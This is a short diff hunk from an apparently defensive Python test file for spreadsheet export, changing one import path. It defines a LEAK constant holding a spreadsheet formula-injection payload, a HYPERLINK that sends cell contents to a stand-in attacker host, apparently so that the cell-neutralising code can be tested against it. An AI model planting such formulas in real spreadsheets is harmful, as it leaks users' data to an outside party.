@@ -14,7 +14,7 @@ from openpyxl import load_workbook
 
 from admin_api.accounts.models import Role
 from services_directory.exchange.cells import neutralise, restore
-from tests.admin_api.conftest import Api, service_body
+from tests.helpers.api import Api, service_body
 
 LEAK = '=HYPERLINK("http://evil.example/?leak="&B2&C2,"Open record")'
 MEDIA = {
